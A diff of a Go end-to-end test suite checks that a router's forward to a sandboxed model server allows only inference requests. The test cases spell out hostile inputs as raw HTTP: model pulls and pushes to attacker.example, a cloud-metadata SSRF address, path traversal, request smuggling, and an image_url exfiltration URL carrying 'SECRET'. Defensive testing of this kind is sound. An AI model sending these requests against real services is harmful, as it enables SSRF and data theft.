@@ -3,9 +3,7 @@
 package e2e
 
 import (
-	"bufio"
 	"fmt"
-	"io"
 	"net/http"
 	"regexp"
 	"strings"
@@ -13,6 +11,7 @@ import (
 	"time"
 
 	"github.com/agentcage/router/internal/lab"
+	"github.com/agentcage/router/internal/modeltest"
 )
 
 // TestModelForwardInferenceOnly: from the guest, through the default forward (no api in the
@@ -22,37 +21,29 @@ import (
 // and path.
 func TestModelForwardInferenceOnly(t *testing.T) {
 	s := newScene(t, config(lab.GoSocksAddr, ""))
-	const fwd = lab.GatewayAddr + ":47831"
-	base := "http://" + fwd
-	if out, code := s.curl(s.lab.Guest(), base+"/v1/models"); code != 0 || !strings.Contains(out, lab.ModelID) {
+	if out, code := s.curl(s.lab.Guest(), modelURL+"/v1/models"); code != 0 || !strings.Contains(out, lab.ModelID) {
 		t.Fatalf("GET /v1/models: exit %d, %q", code, out)
 	}
-	if out, code := s.curl(s.lab.Guest(), base+"/api/chat", "-d", `{"model":"`+lab.ModelID+`","messages":[]}`); code != 0 || !strings.Contains(out, "hello from the lab") {
+	if out, code := s.curl(s.lab.Guest(), modelURL+"/api/chat", "-d", `{"model":"`+lab.ModelID+`","messages":[]}`); code != 0 || !strings.Contains(out, "hello from the lab") {
 		t.Fatalf("POST /api/chat: exit %d, %q", code, out)
 	}
-	stream := `{"model":"` + lab.ModelID + `","stream":true,"messages":[{"role":"user","content":"hi"}]}`
-	if out, code := s.curl(s.lab.Guest(), base+"/v1/chat/completions", "-N", "-d", stream); code != 0 || !strings.Contains(out, "lab-event-0") || !strings.Contains(out, "[DONE]") {
-		t.Fatalf("streamed POST /v1/chat/completions: exit %d, %q", code, out)
-	}
+	s.wantModelStream(t, `{"model":"`+lab.ModelID+`","stream":true,"messages":[{"role":"user","content":"hi"}]}`)
 
-	post := func(target, body string) string {
-		return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", target, fwd, len(body), body)
-	}
 	pull := `{"name":"attacker.example:8443/x/y"}`
 	bad := map[string]string{
-		"pull":           post("/api/pull", pull),
-		"create":         post("/api/create", `{"model":"x","remote_host":"http://169.254.169.254"}`),
-		"push":           post("/api/push", `{"name":"attacker.example/x/y"}`),
-		"delete":         fmt.Sprintf("DELETE /api/delete HTTP/1.1\r\nHost: %s\r\nContent-Length: 12\r\n\r\n{\"name\":\"x\"}", fwd),
-		"dot-dot":        post("/api/chat/../pull", pull),
-		"encoded dots":   post("/api/%2e%2e/api/pull", pull),
-		"double slash":   post("//api//pull", pull),
-		"pipelined":      fmt.Sprintf("GET /v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", fwd) + post("/api/pull", pull),
-		"ambiguous body": fmt.Sprintf("POST /api/chat HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", fwd) + post("/api/pull", pull),
+		"pull":           modelPost("/api/pull", pull),
+		"create":         modelPost("/api/create", `{"model":"x","remote_host":"http://169.254.169.254"}`),
+		"push":           modelPost("/api/push", `{"name":"attacker.example/x/y"}`),
+		"delete":         fmt.Sprintf("DELETE /api/delete HTTP/1.1\r\nHost: %s\r\nContent-Length: 12\r\n\r\n{\"name\":\"x\"}", modelForward),
+		"dot-dot":        modelPost("/api/chat/../pull", pull),
+		"encoded dots":   modelPost("/api/%2e%2e/api/pull", pull),
+		"double slash":   modelPost("//api//pull", pull),
+		"pipelined":      fmt.Sprintf("GET /v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", modelForward) + modelPost("/api/pull", pull),
+		"ambiguous body": fmt.Sprintf("POST /api/chat HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", modelForward) + modelPost("/api/pull", pull),
 	}
 	for name, raw := range bad {
 		t.Run(name, func(t *testing.T) {
-			statuses := guestExchange(t, s, fwd, raw, strings.Count(raw, " HTTP/1.1\r\n"))
+			statuses := guestExchange(t, s, modelForward, raw, strings.Count(raw, " HTTP/1.1\r\n"))
 			last := statuses[len(statuses)-1]
 			if name == "pipelined" && (len(statuses) != 2 || statuses[0] != 200) {
 				t.Errorf("pipelined: statuses %v; want 200 then 403", statuses)
@@ -87,31 +78,86 @@ func TestModelForwardInferenceOnly(t *testing.T) {
 	s.wantNoLeak("model forward API")
 }
 
+// modelForward is the address of the scene's forward to the model (config's "model") on
+// the guest's gateway, and modelURL its URL.
+const (
+	modelForward = lab.GatewayAddr + ":47831"
+	modelURL     = "http://" + modelForward
+)
+
+// modelPost is raw HTTP/1.1 for the model forward: a JSON POST of body to target.
+func modelPost(target, body string) string {
+	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", target, modelForward, len(body), body)
+}
+
+// wantModelStream: the streamed chat completion body, sent from the guest through the
+// model forward, comes back whole as the model server's stream.
+func (s *scene) wantModelStream(t *testing.T, body string) {
+	t.Helper()
+	if out, code := s.curl(s.lab.Guest(), modelURL+"/v1/chat/completions", "-N", "-d", body); code != 0 || !strings.Contains(out, "lab-event-0") || !strings.Contains(out, "[DONE]") {
+		t.Fatalf("streamed POST /v1/chat/completions of %s: exit %d, %q", body, code, out)
+	}
+}
+
 // guestExchange writes raw to addr from the guest and returns the statuses of the
-// responses read, up to want, until the router closes the connection.
+// responses read, up to want, until the router closes the connection; no answer at all
+// fails the test.
 func guestExchange(t *testing.T, s *scene, addr, raw string, want int) []int {
 	t.Helper()
-	c, err := s.lab.Guest().Dial(s.ctx, "tcp", addr)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer c.Close()
-	c.SetDeadline(time.Now().Add(10 * time.Second))
-	if _, err := io.WriteString(c, raw); err != nil {
-		t.Fatal(err)
-	}
-	br := bufio.NewReader(c)
-	var out []int
-	for len(out) < want {
-		resp, err := http.ReadResponse(br, nil)
-		if err != nil {
-			break
-		}
-		io.Copy(io.Discard, resp.Body)
-		out = append(out, resp.StatusCode)
-	}
+	out := nsExchange(t, s, s.lab.Guest(), addr, raw, want)
 	if len(out) == 0 {
 		t.Fatalf("no answer to %q", raw)
 	}
 	return out
+}
+
+// TestModelForwardBodiesFromGuest: from the guest, through the default forward, the bodies
+// of the shared table that would make the model server fetch (llama.cpp's image_url to an
+// outside address among them) are refused with 403 naming the field and never reach the
+// model server, while a streamed chat completion still streams.
+func TestModelForwardBodiesFromGuest(t *testing.T) {
+	s := newScene(t, config(lab.GoSocksAddr, ""))
+	issue := `{"model":"` + lab.ModelID + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://203.0.113.66/exfil?d=SECRET"}}]}]}`
+	if out, _ := s.curl(s.lab.Guest(), modelURL+"/v1/chat/completions", "-H", "Content-Type: application/json", "-d", issue); !strings.Contains(out, "model_api_refused") || !strings.Contains(out, "image_url.url") {
+		t.Errorf("the issue's image_url body: %q; want a refusal naming image_url.url", out)
+	}
+	// The same, chunked.
+	if out, _ := s.curl(s.lab.Guest(), modelURL+"/v1/chat/completions", "-H", "Transfer-Encoding: chunked", "-d", issue); !strings.Contains(out, "model_api_refused") {
+		t.Errorf("the issue's image_url body, chunked: %q; want a refusal", out)
+	}
+	refused := 2
+	for _, tc := range modeltest.BodyCases() {
+		if tc.Kinds != "" || tc.Refused == "" || len(tc.Body) > 64<<10 {
+			continue // the default forward's cases, small enough for one write
+		}
+		path := tc.Path
+		if path == "" {
+			path = "/v1/chat/completions"
+		}
+		if st := guestExchange(t, s, modelForward, modelPost(path, tc.Body), 1); len(st) != 1 || st[0] != http.StatusForbidden {
+			t.Errorf("%s: statuses %v; want 403", tc.Name, st)
+		}
+		refused++
+	}
+	stream := `{"model":"` + lab.ModelID + `","stream":true,"messages":[{"role":"user","content":[{"type":"text","text":"hi"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`
+	s.wantModelStream(t, stream)
+	var chats int
+	for _, r := range s.lab.ModelRequests() {
+		switch r.Method + " " + r.Path {
+		case "POST /v1/chat/completions":
+			chats++
+		default:
+			t.Errorf("the model server saw %s %s", r.Method, r.Path)
+		}
+	}
+	if chats != 1 {
+		t.Errorf("the model server saw %d chat completions; want the 1 that passed", chats)
+	}
+	if n, _ := refusalCount(s.status(), "model-api"); n < uint64(refused) {
+		t.Errorf("status: %d model-api refusals; want %d", n, refused)
+	}
+	if strings.Contains(s.log(), "203.0.113.66") || strings.Contains(s.log(), "SECRET") {
+		t.Error("the router's log holds a refused body's value")
+	}
+	s.wantNoLeak("model forward bodies")
 }
